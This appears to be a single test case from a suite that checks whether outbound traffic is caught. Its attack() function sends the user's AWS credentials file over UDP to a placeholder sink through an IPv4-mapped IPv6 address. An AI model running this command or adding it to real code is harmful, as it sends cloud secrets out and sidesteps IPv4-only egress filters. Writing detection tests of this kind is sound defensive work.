# SPDX-License-Identifier: Apache-2.0
TITLE="UDP from an IPv6 socket to a v4-mapped address"
ROW="N10"
DEST="*$SINK4*"
attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "::ffff:$SINK4" 9000; }
